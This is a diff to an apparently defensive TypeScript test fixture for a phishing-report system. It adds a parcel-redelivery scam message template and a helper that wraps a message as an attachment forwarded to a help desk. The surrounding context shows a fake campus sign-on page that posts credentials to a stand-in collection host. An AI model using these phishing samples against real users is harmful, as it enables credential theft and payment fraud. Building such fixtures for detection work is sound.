@@ -40,3 +40,18 @@ export function mailWithFiles(subject: string, body: string, files: { name: stri
 
 /** A phishing payload of the kind sent as an attachment: a login page. */
 export const LOGIN_PAGE = Buffer.from(`<html><body><form action="http://collect.example/p" method="post"><h1>Campus single sign-on</h1>${'<input name="u"><input type="password" name="p">'.repeat(8)}<button>Sign in</button></form></body></html>`);
+
+export const PARCEL = `Hello {name}, we tried to deliver your parcel today but nobody was at home to sign for it. Your
+package is now held at our local depot and will be returned to the sender in three working days.
+To arrange a new delivery date, please pay the small redelivery fee of 1.99 EUR through our secure
+page and choose a time that suits you. Thank you for choosing our courier service.`;
+
+/** A message forwarded as an attachment, as a Report button or a user writing to the help desk sends it. */
+export function forwardAsAttachment(note: string, inner: Buffer): Buffer {
+  const b = 'fwd0';
+  return Buffer.from(
+    `From: user@campus.test\r\nTo: helpdesk@campus.test\r\nSubject: FW: suspicious\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary="${b}"\r\n\r\n` +
+      `--${b}\r\nContent-Type: text/plain\r\n\r\n${note}\r\n--${b}\r\nContent-Type: message/rfc822\r\nContent-Disposition: attachment; filename="suspicious.eml"\r\n\r\n${inner.toString('latin1')}\r\n--${b}--\r\n`,
+    'latin1',
+  );
+}
